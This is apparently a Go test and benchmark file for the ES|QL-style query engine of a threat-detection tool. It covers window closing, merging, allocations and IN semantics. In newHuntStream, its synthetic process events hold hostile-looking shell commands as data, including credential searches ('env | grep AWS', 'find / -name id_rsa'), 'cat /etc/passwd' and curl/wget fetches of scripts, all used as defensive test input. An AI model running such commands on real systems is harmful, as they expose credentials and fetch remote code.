package esql

import (
	"math"
	"math/rand/v2"
	"net/netip"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"vigil/internal/doc"
)

// seedCompiled compiles the built-in seed rule against the endpoint mapping.
func seedCompiled(tb testing.TB) *Query {
	tb.Helper()
	m, ok := doc.BuiltinMapping("logs-endpoint.events.process")
	if !ok {
		tb.Skip("no built-in endpoint mapping")
	}
	q, err := Compile(seedQuery(tb), testCatalog{m}, Options{})
	if err != nil {
		tb.Fatal(err)
	}
	return q
}

// huntStream models what the hunt pushes for the seed rule: documents in
// time order (one every 40 ms, the benchmark data's rate of
// prefilter-passing events), each under a fresh parent process but one in
// 8, which joins the previous event's group, and one in 20 that the WHERE
// rejects. at(i) refills one of a few documents in place, so the stream
// costs no allocation and little live heap.
type huntStream struct {
	ids, cmds, lines []string
	hosts, agents    []string
	args             []doc.Value
	docs             []*doc.Document
	base             time.Time
}

func newHuntStream(n int) *huntStream {
	s := &huntStream{cmds: []string{"whoami", "uname -a", "env | grep AWS", "find / -name id_rsa", "curl http://x/a.sh",
		"wget http://x/b", "hostname", "ls -la /tmp", "cat /etc/passwd", "id"},
		base: time.Date(2026, 11, 20, 9, 0, 0, 0, time.UTC)}
	for _, c := range s.cmds {
		s.lines = append(s.lines, "sh -c "+c)
		s.args = append(s.args, kw("sh", "-c", c))
	}
	for i := range 500 {
		s.hosts = append(s.hosts, "host-"+strconv.Itoa(i))
		s.agents = append(s.agents, "agent-"+strconv.Itoa(i))
	}
	parent := 0
	for i := range n {
		if i%8 != 0 {
			parent++
		}
		s.ids = append(s.ids, "ZjQ2NjM1YzktNDNlZS05ZGY1LTUzMjctNGM1ZDkwYTYxNGI3LT"+strconv.Itoa(parent))
	}
	for range 4 {
		s.docs = append(s.docs, &doc.Document{Index: ".ds-logs-endpoint.events.process-default-2026.11.20-000001", ID: "e", Fields: map[string]doc.Value{
			"host.os.type":          kw("linux"),
			"event.type":            kw("start"),
			"process.parent.name":   kw("python3.11"),
			"process.name":          kw("sh"),
			"event.dataset":         kw("endpoint.events.process"),
			"data_stream.namespace": kw("default"),
		}})
	}
	return s
}

func (s *huntStream) len() int { return len(s.ids) }

func (s *huntStream) at(i int) *doc.Document {
	d := s.docs[i%len(s.docs)]
	f := d.Fields
	c := (i*7 + i/8) % len(s.cmds)
	host := (i / 8) % len(s.hosts)
	f["@timestamp"] = doc.TimeOf(s.base.Add(time.Duration(i) * 40 * time.Millisecond))
	f["event.action"] = kw("exec")
	if i%20 == 7 {
		f["event.action"] = kw("fork") // passes the prefilter, fails KQL()
	}
	f["process.args"] = s.args[c]
	f["process.command_line"] = doc.KeywordOf(s.lines[c])
	f["process.parent.entity_id"] = doc.KeywordOf(s.ids[i])
	f["agent.id"] = doc.KeywordOf(s.agents[host])
	f["host.name"] = doc.KeywordOf(s.hosts[host])
	return d
}

// BenchmarkSeedRuleWindows is the hunt's per-rule work on the seed rule:
// Push per document, CloseWindows every 4096 documents with a 10-minute
// lateness, Finish at the end of each pass over the documents. Reported
// per pushed document.
func BenchmarkSeedRuleWindows(b *testing.B) {
	q := seedCompiled(b)
	hs := newHuntStream(1 << 18)
	const closeEvery, lateness = 4096, int64(10 * 60 * 1000)
	b.ReportAllocs()
	b.ResetTimer()
	var e *Execution
	for i := 0; i < b.N; i++ {
		j := i % hs.len()
		if j == 0 {
			if e != nil {
				e.Finish()
			}
			e = q.NewExecution()
		}
		d := hs.at(j)
		e.Push(d)
		if j%closeEvery == closeEvery-1 {
			e.CloseWindows(d.Fields["@timestamp"].I - lateness)
		}
	}
	e.Finish()
}

// windowDocs are documents in time order over ten minutes, some without a
// timestamp (their groups never close) and some with two hosts (a row in
// two groups).
func windowDocs() []*doc.Document {
	r := rand.New(rand.NewPCG(1, 2))
	base := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
	var ds []*doc.Document
	for i := range 400 {
		f := map[string]doc.Value{
			"@timestamp":   doc.TimeOf(base.Add(time.Duration(i) * 1500 * time.Millisecond)),
			"host.name":    kw("h" + strconv.Itoa(r.IntN(4))),
			"name":         kw("n" + strconv.Itoa(r.IntN(6))),
			"process.name": kw("p" + strconv.Itoa(r.IntN(3))),
			"n":            ints(r.Int32N(2000) - 500),
			"tags":         kw("t"+strconv.Itoa(r.IntN(2)), "t"+strconv.Itoa(2+r.IntN(2))),
		}
		switch i % 37 {
		case 5:
			delete(f, "@timestamp")
		case 11:
			f["host.name"] = kw("h0", "h9")
		}
		ds = append(ds, &doc.Document{Index: "logs-a", ID: strconv.Itoa(i), Fields: f})
	}
	return ds
}

// windowQueries are STATS shapes over windowDocs for the closing tests.
var windowQueries = []string{
	// The seed rule's shape: the final WHERE reads two of the aggregates.
	`FROM x | EVAL w = DATE_TRUNC(1 minute, @timestamp) | STATS c = COUNT_DISTINCT(name), v = VALUES(name),
	   tg = VALUES(tags), k = COUNT(*) BY host.name, w | SORT c DESC | WHERE c >= 4 AND k > 3`,
	// An EVAL after STATS reads a plain aggregate; its result is filtered.
	`FROM x | STATS s = SUM(n), c = COUNT(*), v = VALUES(process.name) BY host.name, w = DATE_TRUNC(1 minute, @timestamp)
	   | EVAL r = s / c | WHERE r > 400 | KEEP w, host.name, r, v`,
	// A post evaluation that warns, on groups no row survives: the
	// warnings must still come.
	`FROM x | WHERE @timestamp IS NOT NULL
	   | STATS m = MAX(n) + 2147483000, c = COUNT(*) BY w = DATE_TRUNC(1 minute, @timestamp), process.name | WHERE c > 1000`,
	// The filter reads keys only; a single window key with null groups.
	`FROM x | STATS c = COUNT(*), mn = MIN(name) BY w = DATE_TRUNC(2 minutes, @timestamp) | WHERE w IS NULL OR c > 10`,
	// Nothing after STATS.
	`FROM x | STATS c = COUNT_DISTINCT(n), v = VALUES(n) BY w = DATE_TRUNC(30 seconds, @timestamp), host.name`,
	// An expression failing on most rows, each with its own message: only
	// the first 20 failures are worded, however the input was split.
	`FROM x | EVAL l = TO_LONG(CONCAT("x", TO_STRING(n))) | STATS c = COUNT(l) BY host.name, w = DATE_TRUNC(1 minute, @timestamp)`,
}

// compileWhole compiles src and returns it with its result over ds in one
// execution, which the closing and merging variants must reproduce.
func compileWhole(t *testing.T, src string, ds []*doc.Document) (*Query, *Result) {
	t.Helper()
	q, err := Compile(src, testCatalog{testMapping()}, Options{})
	if err != nil {
		t.Fatalf("%s: %v", src, err)
	}
	whole := q.NewExecution()
	for _, d := range ds {
		whole.Push(d)
	}
	want, _ := whole.Finish()
	return q, want
}

// TestCloseWindowsKeepsResults: closing windows as time passes, every few
// documents (so one call may close several windows), changes neither the
// rows, their order, nor the warnings, whether or not rows survive the
// commands after STATS.
func TestCloseWindowsKeepsResults(t *testing.T) {
	ds := windowDocs()
	for _, src := range windowQueries {
		q, want := compileWhole(t, src, ds)
		for _, every := range []int{1, 7, 100, len(ds)} {
			e := q.NewExecution()
			closed := 0
			for i, d := range ds {
				e.Push(d)
				if ts := d.Fields["@timestamp"]; i%every == 0 && !ts.IsNull() {
					closed += e.CloseWindows(ts.I)
				}
			}
			if every == len(ds) {
				closed += e.CloseWindows(math.MaxInt64) // all but the null windows
			}
			if closed == 0 {
				t.Fatalf("%s: no window closed", src)
			}
			if strings.Contains(src, "2147483000") && len(want.Warnings) == 0 {
				t.Fatalf("%s: no overflow warning to check", src)
			}
			got, _ := e.Finish()
			if !reflect.DeepEqual(render(got), render(want)) || !reflect.DeepEqual(got.Warnings, want.Warnings) {
				t.Errorf("%s, closing every %d documents:\ngot  %q %q\nwant %q %q", src, every,
					render(got), got.Warnings, render(want), want.Warnings)
			}
		}
	}
}

// TestCloseWindowsWarnsInCreationOrder: windows closing together close
// their groups in creation order, so warnings keep Finish's order even when
// a late event opened a group in an earlier window.
func TestCloseWindowsWarnsInCreationOrder(t *testing.T) {
	q, err := Compile(`FROM x | STATS a = MAX(n) + 2147483000, b = 10 / MIN(n) BY w = DATE_TRUNC(1 minute, @timestamp)`,
		testCatalog{testMapping()}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	at := func(sec int, n int32) *doc.Document {
		return &doc.Document{Fields: map[string]doc.Value{"@timestamp": doc.DateMillis(int64(sec) * 1000), "n": ints(n)}}
	}
	ds := []*doc.Document{at(90, 1000), at(10, 0)} // overflow in the second window, then / by zero in the first
	run := func(close bool) *Result {
		e := q.NewExecution()
		for _, d := range ds {
			e.Push(d)
		}
		if close && e.CloseWindows(120_000) != 2 {
			t.Fatal("windows did not close")
		}
		r, _ := e.Finish()
		return r
	}
	want, got := run(false), run(true)
	if len(want.Warnings) != 4 || !reflect.DeepEqual(got.Warnings, want.Warnings) || !reflect.DeepEqual(render(got), render(want)) {
		t.Errorf("closing: %q %q\nfinishing: %q %q", render(got), got.Warnings, render(want), want.Warnings)
	}
}

// TestCloseWindowsDefersUnreadAggregates: the survival test sees only the
// columns it reads (and post evaluations that could warn); the rest are
// computed for surviving rows alone.
func TestCloseWindowsDefersUnreadAggregates(t *testing.T) {
	cases := []struct {
		query       string
		early, late []int // post evaluations, by STATS column index
	}{
		{`FROM x | STATS a = COUNT(*), b = VALUES(name), c = MAX(n) BY w = DATE_TRUNC(1 minute, @timestamp) | WHERE a > 1`,
			[]int{0}, []int{1, 2}},
		{`FROM x | STATS a = COUNT(*), b = VALUES(name), c = MAX(n) + 1 BY w = DATE_TRUNC(1 minute, @timestamp) | WHERE a > 1`,
			[]int{0, 2}, []int{1}},
		{`FROM x | STATS a = COUNT(*), b = VALUES(name) BY w = DATE_TRUNC(1 minute, @timestamp) | EVAL x = b | SORT a | WHERE x IS NOT NULL`,
			[]int{1}, []int{0}},
		// The row-local prefix ends at LIMIT: what follows it does not count.
		{`FROM x | STATS a = COUNT(*), b = VALUES(name) BY w = DATE_TRUNC(1 minute, @timestamp) | WHERE w IS NOT NULL | LIMIT 5 | WHERE a > 1`,
			nil, []int{0, 1}},
	}
	for _, tc := range cases {
		q, err := Compile(tc.query, testCatalog{testMapping()}, Options{})
		if err != nil {
			t.Fatalf("%s: %v", tc.query, err)
		}
		s := q.head.(*statsSpec)
		if !slices.Equal(s.early.posts, tc.early) || !slices.Equal(s.late.posts, tc.late) {
			t.Errorf("%s: early %v late %v, want %v %v", tc.query, s.early.posts, s.late.posts, tc.early, tc.late)
		}
	}
	s := seedCompiled(t).head.(*statsSpec)
	if !slices.Equal(s.early.posts, []int{0, 1}) || !slices.Equal(s.early.aggs, []int{0, 1}) {
		t.Errorf("seed rule: early %+v, want the two COUNT_DISTINCTs", s.early)
	}
}

// TestSameKeyMatchesEncoding: groups compare keys as their encodings do.
func TestSameKeyMatchesEncoding(t *testing.T) {
	vals := []doc.Value{{}, doc.KeywordOf(""), doc.KeywordOf("a"), doc.TextOf("a"), doc.IPOf(netip.MustParseAddr("::1")),
		doc.Int(0), doc.Long64(0), doc.Int(1), doc.Bool(false), doc.DateMillis(0), doc.DateMillis(60000),
		doc.Float(0), doc.Float(math.Copysign(0, -1)), doc.Float(1), doc.Float(math.NaN()),
		{T: doc.DatePeriod, I: 1}, {T: doc.DatePeriod, I: 1, F: 2}, doc.ULong(0)}
	for _, a := range vals {
		for _, b := range vals {
			for _, pair := range [][2][]doc.Value{{{a}, {b}}, {{a, b}, {b, a}}, {{doc.KeywordOf("k"), a}, {doc.KeywordOf("k"), b}}} {
				enc := string(encodeKey(nil, pair[0])) == string(encodeKey(nil, pair[1]))
				if got := sameKey(pair[0], pair[1]); got != enc {
					t.Errorf("sameKey(%v, %v) = %v, encodings equal: %v", pair[0], pair[1], got, enc)
				}
			}
		}
	}
}

// TestPushAllocations: an event the WHERE rejects, or one that lands in an
// existing group, costs no allocation.
func TestPushAllocations(t *testing.T) {
	q := seedCompiled(t)
	e := q.NewExecution()
	e.Push(newHuntStream(2).at(1))
	cases := []struct {
		name   string
		set    func(f map[string]doc.Value)
		passes bool
	}{
		{"existing group", func(map[string]doc.Value) {}, true},
		{"rejected by WHERE", func(f map[string]doc.Value) { f["process.parent.name"] = kw("node") }, false},
		{"rejected by KQL", func(f map[string]doc.Value) { f["event.action"] = kw("fork") }, false},
	}
	for _, tc := range cases {
		d := newHuntStream(2).at(1) // the same event
		tc.set(d.Fields)
		m := e.Matched()
		if e.Push(d); (e.Matched() > m) != tc.passes || e.Groups() != 1 {
			t.Fatalf("%s: passes %v, %d groups", tc.name, e.Matched() > m, e.Groups())
		}
		if n := testing.AllocsPerRun(200, func() { e.Push(d) }); n != 0 {
			t.Errorf("%s: %v allocations per event", tc.name, n)
		}
	}
}

// TestSeedRuleFields: the query reads only the source fields its WHERE,
// EVALs and STATS use (and KQL's), not every column KEEP names.
func TestSeedRuleFields(t *testing.T) {
	want := []string{"@timestamp", "agent.id", "data_stream.namespace", "event.action", "event.dataset", "event.type",
		"host.name", "host.os.type", "process.args", "process.command_line", "process.name",
		"process.parent.entity_id", "process.parent.name"}
	if got := seedCompiled(t).Fields(); !slices.Equal(got, want) {
		t.Errorf("fields %q, want %q", got, want)
	}
}

// TestInStringList: IN over string constants (tested by plain string
// comparison) keeps Elasticsearch's answers: null for a null or
// multi-valued left side (with a warning for the latter), and lists with a
// null or multi-valued item still take the general path.
func TestInStringList(t *testing.T) {
	multiWarn := func(col int, src string) []string {
		pre := "Line 1:" + strconv.Itoa(col) + ": "
		return []string{pre + "evaluation of [" + src + "] failed, treating result as null. Only first 20 failures recorded.",
			pre + "java.lang.IllegalArgumentException: single-value function encountered multi-value"}
	}
	cases := []struct {
		q    string
		want []string
		warn []string
	}{
		{`FROM logs-* | WHERE name IN ("alice", "carol") | KEEP name`,
			[]string{"name:keyword", "alice", "carol"}, nil},
		{`FROM logs-* | EVAL r = name NOT IN ("alice", "carol") | KEEP name, r`,
			[]string{"name:keyword|r:boolean", "alice|false", "bob|true", "carol|false", "null|null"}, nil},
		{`FROM logs-* | EVAL r = tags IN ("x", "z"), s = tags NOT IN ("y") | KEEP r, s`,
			[]string{"r:boolean|s:boolean", "null|null", "false|false", "null|null", "true|true"},
			append(multiWarn(24, `tags IN ("x", "z")`), multiWarn(48, `tags NOT IN ("y")`)...)},
		{`FROM logs-* | EVAL r = name IN ("alice", null), s = name IN ("bob", ["alice", "x"]) | KEEP name, r, s`,
			[]string{"name:keyword|r:boolean|s:boolean", "alice|true|null", "bob|null|true", "carol|null|null", "null|null|null"}, nil},
	}
	for _, tc := range cases {
		r := run(t, tc.q)
		if got := render(r); !reflect.DeepEqual(got, tc.want) || !reflect.DeepEqual(r.Warnings, tc.warn) {
			t.Errorf("%s:\ngot  %q %q\nwant %q %q", tc.q, got, r.Warnings, tc.want, tc.warn)
		}
	}
}

// TestAbsorbMatchesMerge: folding per-chunk executions into one, as the
// parallel sweep does, with windows closing in between, gives the rows and
// warnings of one execution over everything, whether the chunks' groups
// are copied (Merge) or moved over (Absorb).
func TestAbsorbMatchesMerge(t *testing.T) {
	ds := windowDocs()
	for _, src := range windowQueries {
		q, want := compileWhole(t, src, ds)
		for _, absorb := range []bool{false, true} {
			for _, chunk := range []int{1, 5, 13} {
				e := q.NewExecution()
				for from := 0; from < len(ds); from += chunk {
					part := q.NewExecution()
					for _, d := range ds[from:min(from+chunk, len(ds))] {
						part.Push(d)
					}
					if absorb {
						e.Absorb(part)
					} else {
						e.Merge(part)
					}
					if ts := ds[from].Fields["@timestamp"]; from%(3*chunk) == 0 && !ts.IsNull() {
						e.CloseWindows(ts.I - 60_000)
					}
				}
				got, _ := e.Finish()
				if !reflect.DeepEqual(render(got), render(want)) || !reflect.DeepEqual(got.Warnings, want.Warnings) {
					t.Errorf("%s, absorb=%v, chunks of %d:\ngot  %q %q\nwant %q %q", src, absorb, chunk,
						render(got), got.Warnings, render(want), want.Warnings)
				}
			}
		}
	}
}
